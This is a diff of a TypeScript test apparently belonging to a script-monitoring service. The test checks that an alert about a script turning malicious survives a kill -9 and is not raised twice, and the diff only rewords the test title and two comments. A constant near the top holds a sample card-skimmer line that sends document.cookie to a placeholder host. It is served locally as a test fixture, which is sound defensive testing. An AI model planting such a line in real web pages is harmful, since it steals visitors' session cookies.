@@ -18,7 +18,7 @@ const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
 const child = fileURLToPath(new URL('../support/killed-fetch-main.ts', import.meta.url));
 
 describeOnEachDatabase('kill -9 right after a script became malicious', (kind) => {
-  it('does not lose the alert, and does not make another', async (test) => {
+  it('does not lose the alert, and does not raise it twice', async (test) => {
     const server = createServer((_, response) => response.end(SKIMMER)).listen(0, '127.0.0.1');
     await once(server, 'listening');
     const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/skimmer.js`;
@@ -30,7 +30,7 @@ describeOnEachDatabase('kill -9 right after a script became malicious', (kind) =
       server.close();
       folder.remove();
     });
-    // The other process goes by the real time.
+    // The other process uses the system clock.
     await api.clock.advance(Date.now() - api.clock.now());
     const now = api.clock.now();
     const zoneId = await api.newZone();
@@ -60,7 +60,7 @@ describeOnEachDatabase('kill -9 right after a script became malicious', (kind) =
     assert.equal(alert?.zoneId, zoneId);
     assert.equal(alert?.accountId, api.accountId);
 
-    // The same again. What knows nothing of the first time need not be another process.
+    // Runs the job again, in this process: a new core has no state of the first run in memory either.
     let commits = 0;
     const core = await openCore(readSettings(variables), silentTelemetry.log, systemClock);
     core.database.onCommit(() => {
